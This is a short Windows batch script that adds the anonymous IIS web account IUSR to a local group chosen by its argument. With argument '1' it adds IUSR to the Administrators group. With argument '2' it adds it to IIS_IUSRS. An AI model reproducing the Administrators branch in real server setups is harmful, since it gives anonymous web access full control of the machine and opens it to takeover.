@echo off
goto entry%1
:entry1
net localgroup Administrators IUSR /add
goto end
:entry2
net localgroup IIS_IUSRS IUSR /add
:end
